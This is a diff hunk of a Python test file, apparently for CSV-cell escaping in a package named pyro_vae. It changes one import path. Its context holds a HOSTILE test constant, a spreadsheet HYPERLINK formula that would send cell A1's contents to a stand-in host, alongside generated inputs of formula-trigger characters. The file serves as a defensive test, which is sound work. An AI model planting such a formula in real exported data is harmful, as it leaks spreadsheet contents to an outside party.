@@ -15,7 +15,7 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from pyro_vae import VAE, data, likelihoods, reuse
-from pyro_vae.spreadsheet import protect, quoting, restore
+from pyro_vae.files.csv_cells import protect, quoting, restore
 
 HOSTILE = '=HYPERLINK("http://a.example/?"&A1,"x")'
 TEXTS = st.one_of(st.text(), st.text("'=+-@\t\r\n 1.e\uff0b\uff1da,\""))
